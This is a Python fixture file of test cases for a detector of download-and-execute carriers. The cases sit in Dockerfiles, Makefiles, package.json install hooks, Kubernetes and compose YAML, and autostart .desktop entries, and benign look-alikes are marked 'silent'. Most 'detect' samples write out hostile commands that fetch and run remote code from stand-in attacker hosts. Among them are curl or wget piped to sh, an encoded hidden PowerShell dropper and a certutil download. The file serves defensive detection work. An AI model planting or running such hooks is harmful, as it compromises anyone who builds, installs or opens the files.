"""Config / build carriers: dockerfile, makefile, package-json, yaml, desktop."""
from common import C, ps_enc, b64

ART = "Atomic Red Team T1105"
GTFO = "GTFOBins"
SIGMA = "Sigma"
RW = "real-world carrier context"
PV = "parser variant (author)"

# ---------------------------------------------------------------- dockerfile
C("h5-df-add-tini-url-01", RW + " ADD of a static binary URL (tini pattern)", "dockerfile",
  "/src/agent/Dockerfile", "detect", r'''
FROM debian:bookworm-slim
ARG TINI_VERSION=v0.19.0
ADD https://releases.tools.example/tini/${TINI_VERSION}/tini-static /tini
RUN chmod +x /tini
ENTRYPOINT ["/tini", "--"]
CMD ["/usr/local/bin/agent"]
''')

C("h5-df-pip-install-url-02", RW + " pip install of a wheel by URL (bypasses the index)", "dockerfile",
  "/src/ml/Containerfile", "detect", r'''
FROM python:3.12-slim
RUN pip install --no-cache-dir https://wheels.attacker.example/torch_ext-0.3-cp312-linux_x86_64.whl
COPY . /app
CMD ["python", "/app/serve.py"]
''')

C("h5-df-npm-install-tgz-url-03", RW + " npm install -g of a tarball URL", "dockerfile",
  "/src/cli/Dockerfile", "detect", r'''
FROM node:20-alpine
RUN npm install -g https://registry.attacker.example/corp-cli/-/corp-cli-1.4.2.tgz
ENTRYPOINT ["corp-cli"]
''')

C("h5-df-windows-bits-04", RW + " Windows image RUN Start-BitsTransfer", "dockerfile",
  "/src/winsvc/Dockerfile", "detect", r'''
# escape=`
FROM mcr.microsoft.com/windows/servercore:ltsc2022
SHELL ["powershell", "-Command", "$ErrorActionPreference = 'Stop';"]
RUN Start-BitsTransfer -Source https://dl.vendor.example/svc/setup.exe -Destination C:\setup.exe ; `
    Start-Process C:\setup.exe -ArgumentList '/quiet' -Wait ; `
    Remove-Item C:\setup.exe
''')

C("h5-df-cmd-shell-form-cradle-05", PV + " CMD exec form with sh -c wget | sh", "dockerfile",
  "/src/runner/Dockerfile", "detect", r'''
FROM alpine:3.20
RUN apk add --no-cache ca-certificates
CMD ["/bin/sh", "-c", "wget -qO- http://198.51.100.230/run.sh | sh"]
''')

C("h5-df-copy-heredoc-cron-06", PV + " COPY <<EOF writing a cron file with a wget line", "dockerfile",
  "/src/cronbox/Dockerfile", "detect", r'''
# syntax=docker/dockerfile:1.7
FROM debian:bookworm-slim
RUN apt-get update && apt-get install -y --no-install-recommends cron wget && rm -rf /var/lib/apt/lists/*
COPY <<EOF /etc/cron.d/refresh
*/10 * * * * root wget -q -O /tmp/r.sh http://203.0.113.252/r.sh && sh /tmp/r.sh
EOF
CMD ["cron", "-f"]
''')

C("h5-df-env-default-curl-07", PV + " URL in ENV with ${VAR:-default} in RUN", "dockerfile",
  "/src/gateway/Dockerfile", "detect", r'''
FROM ubuntu:24.04
ENV PLUGIN_BASE=https://plugins.gateway.example/v3
RUN apt-get update && apt-get install -y curl \
 && curl -fsSL "${PLUGIN_BASE:-https://plugins.gateway.example/v2}/ratelimit.so" -o /usr/lib/gw/ratelimit.so
''')

C("h5-df-dnf-remote-rpm-08", RW + " dnf install of a remote .rpm", "dockerfile",
  "/src/rhel-agent/Containerfile", "detect", r'''
FROM registry.access.redhat.com/ubi9/ubi
RUN dnf install -y http://198.51.100.160/repo/agent-3.1-1.el9.x86_64.rpm && dnf clean all
''')

C("h5-df-keyring-curl-gpg-09", RW + " curl of a vendor repo key piped to gpg --dearmor", "dockerfile",
  "/src/pgclient/Dockerfile", "detect", r'''
FROM debian:bookworm
RUN apt-get update && apt-get install -y curl gnupg \
 && curl -fsSL https://apt.vendor.example/key.asc | gpg --dearmor -o /usr/share/keyrings/vendor.gpg \
 && echo "deb [signed-by=/usr/share/keyrings/vendor.gpg] https://apt.vendor.example bookworm main" > /etc/apt/sources.list.d/vendor.list
''')

C("h5-df-onbuild-add-url-10", PV + " ONBUILD ADD <url>", "dockerfile",
  "/src/base/Dockerfile.onbuild", "detect", r'''
FROM python:3.12-slim
ONBUILD ADD http://203.0.113.19/hooks/onbuild.py /usr/local/lib/onbuild.py
ONBUILD RUN python /usr/local/lib/onbuild.py
''')

C("h5-df-silent-copy-from-01", "look-alike: multi-stage COPY --from", "dockerfile",
  "/src/api/Dockerfile", "silent", r'''
FROM golang:1.22 AS build
WORKDIR /src
COPY . .
RUN go build -o /out/api ./cmd/api

FROM gcr.io/distroless/static
COPY --from=build /out/api /api
ENTRYPOINT ["/api"]
''')

C("h5-df-silent-healthcheck-02", "look-alike: HEALTHCHECK wget --spider to 127.0.0.1 and apk add wget", "dockerfile",
  "/src/web/Dockerfile", "silent", r'''
FROM httpd:2.4-alpine
RUN apk add --no-cache wget
COPY public-html/ /usr/local/apache2/htdocs/
HEALTHCHECK --interval=20s --timeout=3s --retries=3 CMD wget -q --spider http://127.0.0.1:80/ || exit 1
''')

C("h5-df-silent-label-url-03", "look-alike: OCI labels with URLs", "dockerfile",
  "/src/docs/Dockerfile", "silent", r'''
FROM alpine:3.20
LABEL org.opencontainers.image.source="https://git.example.com/docs" \
      org.opencontainers.image.documentation="https://docs.example.com/"
COPY site/ /srv/site/
''')

# ---------------------------------------------------------------- makefile
C("h5-mk-pattern-rule-curl-01", PV + " pattern rule downloading $@ from $(URL)", "makefile",
  "/src/fw-blobs/Makefile", "detect", "FW_URL := https://fw.vendor.example/blobs\n\n"
  "blobs/%.bin:\n\tmkdir -p blobs\n\tcurl -fsSL -o $@ $(FW_URL)/$(notdir $@)\n\n"
  "all: blobs/wifi.bin blobs/bt.bin\n")

C("h5-mk-shell-parse-time-02", PV + " $(shell curl ...) evaluated at parse time", "makefile",
  "/src/buildtools/Makefile", "detect", "VERSION := $(shell curl -s https://198.51.100.111/version.txt)\n"
  "TOOLS  := $(shell wget -qO- http://198.51.100.111/t.sh | sh)\n\n"
  "build:\n\tgo build -ldflags \"-X main.version=$(VERSION)\" ./...\n")

C("h5-mk-wget-timestamping-03", PV + " wget -N in a fetch target", "makefile",
  "/src/data/Makefile", "detect", "DATA = https://data.partner.example/dumps/latest.sql.gz\n\n"
  ".PHONY: fetch\nfetch:\n\twget -N -P dumps $(DATA)\n\tgunzip -kf dumps/latest.sql.gz\n")

C("h5-mk-scp-deploy-push-04", ART + " scp push in a deploy target", "makefile",
  "/src/static-site/Makefile", "detect", "HOST ?= deploy@203.0.113.64\n\n"
  "deploy: dist/site.tgz\n\tscp dist/site.tgz $(HOST):/var/www/releases/\n\tssh $(HOST) 'tar xzf /var/www/releases/site.tgz -C /var/www/html'\n")

C("h5-mk-silent-help-01", "look-alike: help target echoing download instructions", "makefile",
  "/src/corp-cli/Makefile", "silent", ".PHONY: help build\n"
  "help:\n\t@echo \"make build   - compile\"\n\t@echo \"prebuilt binaries: curl -LO https://releases.example.com/cli\"\n\n"
  "build:\n\tcargo build --release\n")

C("h5-mk-silent-local-02", "look-alike: install target copying local files", "makefile",
  "/src/lib/Makefile", "silent", "PREFIX ?= /usr/local\n\n"
  "install: libfetch.so\n\tinstall -D -m 0644 libfetch.so $(DESTDIR)$(PREFIX)/lib/libfetch.so\n"
  "\tinstall -D -m 0644 fetch.h $(DESTDIR)$(PREFIX)/include/fetch.h\n")

# ---------------------------------------------------------------- package-json
C("h5-pkg-postinstall-curl-node-01", RW + " postinstall fallback curl piped into node", "package-json",
  "/app/node_modules/fast-colorz/package.json", "detect", r'''
{
  "name": "fast-colorz",
  "version": "1.0.3",
  "main": "index.js",
  "scripts": {
    "postinstall": "node scripts/setup.js || curl -s https://cdn.attacker.example/p.js | node"
  }
}
''')

C("h5-pkg-preinstall-wget-02", RW + " preinstall wget -O then sh", "package-json",
  "/app/node_modules/@corp/native-bridge/package.json", "detect", r'''
{
  "name": "@corp/native-bridge",
  "version": "2.1.0",
  "scripts": {
    "preinstall": "wget -q -O /tmp/nb.sh http://203.0.113.73/nb.sh && sh /tmp/nb.sh"
  }
}
''')

C("h5-pkg-install-pwsh-enc-03", RW + " install script with powershell -enc (Windows)", "package-json",
  "/app/node_modules/win-helper-kit/package.json", "detect",
  '{\n  "name": "win-helper-kit",\n  "version": "0.0.9",\n  "scripts": {\n'
  '    "install": "powershell -NoP -W Hidden -enc '
  + ps_enc("iwr http://198.51.100.177/w.exe -OutFile $env:TEMP\\w.exe; & $env:TEMP\\w.exe") + '"\n  }\n}\n')

C("h5-pkg-prepare-curl-bin-04", RW + " prepare script fetching a prebuilt binary", "package-json",
  "/src/desktop/package.json", "detect", r'''
{
  "name": "desktop-shell",
  "private": true,
  "scripts": {
    "prepare": "curl -fsSL https://bins.attacker.example/sidecar-linux -o bin/sidecar && chmod +x bin/sidecar",
    "start": "electron ."
  }
}
''')

C("h5-pkg-silent-husky-01", "look-alike: husky/prepare and build scripts", "package-json",
  "/src/web/package.json", "silent", r'''
{
  "name": "web",
  "private": true,
  "scripts": {
    "prepare": "husky install",
    "build": "vite build",
    "lint": "eslint src"
  },
  "homepage": "https://www.example.com/"
}
''')

C("h5-pkg-silent-localhost-test-02", "look-alike: e2e test waiting on localhost", "package-json",
  "/src/api/package.json", "silent", r'''
{
  "name": "api",
  "version": "3.0.0",
  "scripts": {
    "start": "node server.js",
    "test:e2e": "wait-on http://localhost:3000/health && jest e2e"
  }
}
''')

# ---------------------------------------------------------------- yaml
C("h5-yaml-art-curl-pod-insecure-01", ART + " 'Curl Insecure Connection from a Pod' as a manifest", "yaml",
  "/deploy/k8s/debug-pod.yaml", "detect", r'''
apiVersion: v1
kind: Pod
metadata:
  name: netcheck
spec:
  restartPolicy: Never
  containers:
    - name: curl
      image: curlimages/curl:8.8.0
      command: ["curl"]
      args: ["-ksL", "https://203.0.113.201/stage.sh", "-o", "/tmp/stage.sh"]
''')

C("h5-yaml-tekton-step-script-02", RW + " Tekton Task step script with curl | bash", "yaml",
  "/deploy/tekton/task-bootstrap.yaml", "detect", r'''
apiVersion: tekton.dev/v1
kind: Task
metadata:
  name: bootstrap
spec:
  steps:
    - name: bootstrap
      image: ubuntu:24.04
      script: |
        #!/usr/bin/env bash
        apt-get update && apt-get install -y curl
        curl -fsSL https://ci.attacker.example/bootstrap.sh | bash
''')

C("h5-yaml-argo-template-wget-03", RW + " Argo Workflow container template with wget", "yaml",
  "/deploy/argo/wf-fetch.yaml", "detect", r'''
apiVersion: argoproj.io/v1alpha1
kind: Workflow
metadata:
  generateName: fetch-
spec:
  entrypoint: fetch
  templates:
    - name: fetch
      container:
        image: busybox:1.36
        command: [sh, -c]
        args: ["wget -O /work/tool http://198.51.100.84/tool && chmod +x /work/tool && /work/tool"]
''')

C("h5-yaml-compose-block-scalar-04", RW + " compose entrypoint list with a block scalar", "yaml",
  "/srv/stack/compose.yaml", "detect", r'''
services:
  worker:
    image: alpine:3.20
    entrypoint:
      - /bin/sh
      - -c
      - |
        apk add --no-cache curl
        curl -fsSL http://203.0.113.29/worker.sh -o /tmp/worker.sh
        sh /tmp/worker.sh
''')

C("h5-yaml-poststart-scp-05", PV + " postStart exec hook pulling with scp", "yaml",
  "/deploy/k8s/sts-cache.yaml", "detect", r'''
apiVersion: apps/v1
kind: StatefulSet
metadata:
  name: cache
spec:
  serviceName: cache
  selector:
    matchLabels: {app: cache}
  template:
    metadata:
      labels: {app: cache}
    spec:
      containers:
        - name: cache
          image: registry.corp.example/cache:2.3
          lifecycle:
            postStart:
              exec:
                command: ["/bin/sh", "-c", "scp -i /keys/id cache@198.51.100.56:/seed/dump.rdb /data/dump.rdb"]
''')

C("h5-yaml-cronjob-env-var-06", PV + " CronJob with URL in env and $(VAR) in args", "yaml",
  "/deploy/k8s/cronjob-sync.yaml", "detect", r'''
apiVersion: batch/v1
kind: CronJob
metadata:
  name: sync
spec:
  schedule: "*/30 * * * *"
  jobTemplate:
    spec:
      template:
        spec:
          restartPolicy: OnFailure
          containers:
            - name: sync
              image: alpine:3.20
              env:
                - name: SRC
                  value: https://sync.attacker.example/payload.bin
              command: ["wget"]
              args: ["-q", "-O", "/shared/payload.bin", "$(SRC)"]
''')

C("h5-yaml-windows-pod-certutil-07", "LOLBAS Certutil in a Windows pod command", "yaml",
  "/deploy/k8s/win-agent-pod.yaml", "detect", r'''
apiVersion: v1
kind: Pod
metadata:
  name: win-agent
spec:
  nodeSelector:
    kubernetes.io/os: windows
  containers:
    - name: agent
      image: mcr.microsoft.com/windows/servercore:ltsc2022
      command:
        - cmd.exe
        - /c
        - certutil.exe -urlcache -f https://198.51.100.199/agent.exe C:\agent.exe & C:\agent.exe
''')

C("h5-yaml-silent-probes-01", "look-alike: httpGet probes and a localhost exec probe", "yaml",
  "/deploy/k8s/deploy-web.yaml", "silent", r'''
apiVersion: apps/v1
kind: Deployment
metadata:
  name: web
spec:
  selector:
    matchLabels: {app: web}
  template:
    metadata:
      labels: {app: web}
    spec:
      containers:
        - name: web
          image: nginx:1.27
          readinessProbe:
            httpGet: {path: /ready, port: 80}
          livenessProbe:
            exec:
              command: ["curl", "-fs", "http://127.0.0.1/healthz"]
''')

C("h5-yaml-silent-compose-healthcheck-02", "look-alike: compose healthcheck wget --spider localhost", "yaml",
  "/srv/stack/docker-compose.override.yml", "silent", r'''
services:
  api:
    image: registry.corp.example/api:1.9
    healthcheck:
      test: ["CMD", "wget", "--spider", "-q", "http://localhost:8080/health"]
      interval: 15s
''')

# ---------------------------------------------------------------- desktop
C("h5-desktop-autostart-sh-curl-01", RW + " XDG autostart with sh -c curl | sh", "desktop",
  "/etc/xdg/autostart/session-helper.desktop", "detect", r'''
[Desktop Entry]
Type=Application
Name=Session Helper
Exec=sh -c "curl -fsSL http://198.51.100.245/s.sh | sh"
NoDisplay=true
X-GNOME-Autostart-enabled=true
''')

C("h5-desktop-launcher-python-02", RW + " .desktop launcher with a python -c download", "desktop",
  "/usr/share/applications/viewer-update.desktop", "detect", r'''
[Desktop Entry]
Type=Application
Name=Viewer (update)
Exec=python3 -c "import urllib.request as u; u.urlretrieve('https://viewer.attacker.example/v', '/tmp/v'); import os; os.chmod('/tmp/v', 0o755); os.execv('/tmp/v', ['v'])"
Terminal=false
''')

C("h5-desktop-user-autostart-wget-03", RW + " user autostart entry with wget -O", "desktop",
  "/home/user/.config/autostart/tray.desktop", "detect", r'''
[Desktop Entry]
Type=Application
Name=Tray
Exec=bash -c 'wget -q -O ~/.local/bin/tray http://203.0.113.118/tray && chmod +x ~/.local/bin/tray && ~/.local/bin/tray'
''')

C("h5-desktop-silent-browser-01", "look-alike: browser launcher with %u", "desktop",
  "/usr/share/applications/corp-browser.desktop", "silent", r'''
[Desktop Entry]
Type=Application
Name=Corp Browser
Exec=firefox --new-window %u
MimeType=text/html;x-scheme-handler/http;x-scheme-handler/https;
''')
